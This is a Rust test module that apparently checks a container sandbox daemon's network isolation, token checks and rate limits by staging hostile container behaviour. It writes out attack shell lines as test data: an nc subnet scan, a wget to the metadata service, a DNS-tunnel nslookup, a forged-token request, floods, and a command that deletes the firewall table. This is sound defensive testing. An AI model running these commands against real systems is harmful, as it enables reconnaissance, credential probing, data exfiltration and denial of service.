//! Attacks over the network: what is around, other containers, and the daemon.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use bollard::query_parameters::InspectContainerOptions;
use devnet::world::World;
use nostr::key::PublicKey;
use serde_json::{Value, json};
use std::net::SocketAddrV4;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UnixStream;

use super::attacks::storm_of;
use crate::guest_api::socket_path;
use crate::isolation::names::{Names, ask};
use crate::isolation::neighbourhood::{METADATA, Neighbourhood, PORT};
use crate::netns::{Netns, engine_name, exec};
use crate::stranger::SOON;

/// Looks for whoever listens among its neighbours.
pub(super) const SCAN: &str = "i=1; while [ $i -lt 250 ]; do nc -w 1 10.232.0.$i 8080 < /dev/null & \
                               i=$((i+1)); [ $((i % 5)) = 0 ] && wait; done";
/// Calls of a flood, and how many of them are refused at least.
const CALLS: usize = 300;
const REFUSED: usize = 200;

/// The machine's surroundings, and the hostile container's own view of them.
pub(super) struct Around {
    neighbourhood: Neighbourhood,
    names: Names,
    hostile: Netns,
    neighbour: SocketAddrV4,
}

impl Around {
    pub(super) async fn build(world: &World, hostile: &PublicKey, neighbour: &PublicKey) -> Result<Self> {
        let neighbourhood = Neighbourhood::build(world)?;
        let names = Names::listen(&neighbourhood)?;
        let neighbour = SocketAddrV4::new(address(world, neighbour).await?.parse()?, 8_080);
        let hostile = Netns::of_container(world, hostile).await?;
        Ok(Self { neighbourhood, names, hostile, neighbour })
    }

    /// Neither the metadata service is reached, nor a resolver, nor a neighbour.
    pub(super) async fn check_guarded(&self) -> Result<()> {
        ensure!(!self.hostile.connects(SocketAddrV4::new(METADATA, PORT))?, "metadata");
        ask(&self.hostile)?;
        ensure!(!self.names.are_told(), "a question of a container without a way out got out");
        ensure!(!self.hostile.connects(self.neighbour)?, "a neighbour");
        ensure!(self.neighbourhood.machine.connects(self.neighbour)?, "nobody reaches the neighbour");
        Ok(())
    }

    /// Without the firewall they are.
    pub(super) fn check_unguarded(&self) -> Result<()> {
        self.neighbourhood.machine.run("nft delete table inet enclaved")?;
        ensure!(self.hostile.connects(SocketAddrV4::new(METADATA, PORT))?, "metadata");
        ask(&self.hostile)?;
        ensure!(self.names.are_told(), "no question got out");
        Ok(())
    }

    /// What containers do that try all this for as long as they run.
    pub(super) fn storms(&self) -> Vec<(&'static str, String)> {
        let gateway = "gw=${ENCLAVED_ENDPOINT#ws://}; gw=${gw%%:*}";
        let call = |token: &str| {
            format!(
                "{gateway}; printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\n{token}\\r\\n' | nc -w 1 $gw 2080 > /dev/null"
            )
        };
        [
            ("a log flood", "busybox yes hostile | head -c 4000000".to_owned()),
            ("a socket scan", SCAN.to_owned()),
            ("a guest API flood", call("")),
            ("a token of another", call("token: 00000000000000000000000000000000\\r\\n")),
            ("the metadata address", format!("wget -T 1 -q -O - http://{METADATA}:{PORT}/")),
            ("a tunnel of names", "nslookup secret.example.com 127.0.0.11".to_owned()),
            ("a network flood", format!("dd if=/dev/zero bs=64k count=64 | nc -w 1 {METADATA} {PORT}")),
        ]
        .into_iter()
        .map(|(name, script)| (name, storm_of(&script)))
        .collect()
    }
}

/// Its address on its own network.
async fn address(world: &World, pubkey: &PublicKey) -> Result<String> {
    let docker = world.engine().client();
    let found = docker.inspect_container(&engine_name(pubkey), None::<InspectContainerOptions>).await?;
    let networks = found.network_settings.and_then(|settings| settings.networks).unwrap_or_default();
    networks.into_values().find_map(|one| one.ip_address.filter(|ip| !ip.is_empty())).context("no address")
}

/// The guest API opens for one's own token, and for no other; the other is good where it belongs.
pub(super) async fn tokens_open_one_door(
    world: &World,
    hostile: &PublicKey,
    neighbour: &PublicKey,
) -> Result<()> {
    let docker = world.engine().client();
    let mut tokens = Vec::new();
    for pubkey in [neighbour, hostile] {
        let found = docker.inspect_container(&engine_name(pubkey), None::<InspectContainerOptions>).await?;
        let env = found.config.and_then(|config| config.env).unwrap_or_default();
        let token = env.iter().find_map(|line| line.strip_prefix("ENCLAVED_TOKEN=")).context("no token")?;
        tokens.push(token.to_owned());
    }
    let attempts = [
        (hostile, &tokens[0], "401 Unauthorized"),
        (neighbour, &tokens[0], "101 Switching Protocols"),
        (hostile, &tokens[1], "101 Switching Protocols"),
    ];
    for (from, token, expected) in attempts {
        let script = format!(
            "gw=${{ENCLAVED_ENDPOINT#ws://}}; gw=${{gw%%:*}}; \
             printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\
             Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\ntoken: {token}\
             \\r\\n\\r\\n' | nc -w 1 $gw 2080 | head -n 1"
        );
        let ran = exec(world, from, &script).await?;
        ensure!(ran.text.trim() == format!("HTTP/1.1 {expected}"), "{ran:?}, not {expected}");
    }
    Ok(())
}

/// Containers that call without end, by the socket and by the gateway's WebSocket, are refused and named; with no
/// limit configured they are answered.
pub(super) async fn calls_are_limited(world: &mut World, [local, remote]: [&PublicKey; 2]) -> Result<()> {
    for (hostile, refused) in
        [(local, flood(&socket_path(world, local)).await?), (remote, flood_gateway(world, remote).await?)]
    {
        ensure!(refused >= REFUSED, "only {refused} of {CALLS} calls were refused");
        let log = world.daemon_log()?;
        let named =
            log.lines().any(|line| line.contains("asks too much") && line.contains(&hostile.to_hex()));
        ensure!(named, "the log does not name who it was");
    }

    let mut config: Value = serde_json::from_slice(&std::fs::read(world.daemon_config())?)?;
    config["guest"]["calls"] = json!({"per_sec": 100_000, "burst": 100_000});
    std::fs::write(world.daemon_config(), config.to_string())?;
    world.kill_daemon().await?;
    world.start_daemon().await?;
    let refused = [flood(&socket_path(world, local)).await?, flood_gateway(world, remote).await?];
    ensure!(refused == [0, 0], "{refused:?} of {CALLS} calls were refused without the guard");
    Ok(())
}

/// How many of many calls are refused.
async fn flood(path: &Path) -> Result<usize> {
    let path: PathBuf = path.to_owned();
    let mut refused = 0;
    for _ in 0..CALLS {
        let mut stream = UnixStream::connect(&path).await?;
        let request = "POST /v1/info HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: 0\r\n\r\n";
        stream.write_all(request.as_bytes()).await?;
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).await?;
        refused += usize::from(answer.starts_with(b"HTTP/1.1 429"));
    }
    Ok(refused)
}

/// How many of many calls over one WebSocket are refused, made from the container's own address.
async fn flood_gateway(world: &World, hostile: &PublicKey) -> Result<usize> {
    let docker = world.engine().client();
    let found = docker.inspect_container(&engine_name(hostile), None::<InspectContainerOptions>).await?;
    let env = found.config.and_then(|config| config.env).unwrap_or_default();
    let value = |name: &str| env.iter().find_map(|line| line.strip_prefix(name)).context("no such variable");
    let (endpoint, token) = (value("ENCLAVED_ENDPOINT=ws://")?, value("ENCLAVED_TOKEN=")?);
    let gateway: SocketAddrV4 = endpoint.trim_end_matches('/').parse()?;
    let hello = format!(
        "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\ntoken: {token}\r\n\r\n"
    );
    Netns::of_container(world, hostile).await?.within(|| {
        let mut stream = std::net::TcpStream::connect_timeout(&gateway.into(), SOON)?;
        stream.set_read_timeout(Some(SOON))?;
        stream.write_all(hello.as_bytes())?;
        let mut welcome = Vec::new();
        while !welcome.ends_with(b"\r\n\r\n") {
            welcome.push(read::<1>(&mut stream)?[0]);
        }
        assert!(welcome.starts_with(b"HTTP/1.1 101"), "{}", String::from_utf8_lossy(&welcome));
        let call = json!({"id": "1", "method": "info"}).to_string();
        // One whole text (RFC 6455), masked with zeros.
        let head = [0x81, 0x80 | u8::try_from(call.len()).unwrap(), 0, 0, 0, 0];
        let frame = [head.as_slice(), call.as_bytes()].concat();
        let mut refused = 0;
        for _ in 0..CALLS {
            stream.write_all(&frame)?;
            refused += usize::from(answer(&mut stream)?.contains("rate_limited"));
        }
        Ok(refused)
    })
}

/// The text of one frame of a server's.
fn answer(stream: &mut std::net::TcpStream) -> std::io::Result<String> {
    let [kind, length] = read(stream)?;
    assert_eq!(kind, 0x81, "one whole text");
    let length = if length == 126 { u16::from_be_bytes(read(stream)?) } else { u16::from(length) };
    let mut text = vec![0; usize::from(length)];
    stream.read_exact(&mut text)?;
    Ok(String::from_utf8_lossy(&text).into_owned())
}

fn read<const N: usize>(stream: &mut std::net::TcpStream) -> std::io::Result<[u8; N]> {
    let mut bytes = [0; N];
    stream.read_exact(&mut bytes)?;
    Ok(bytes)
}
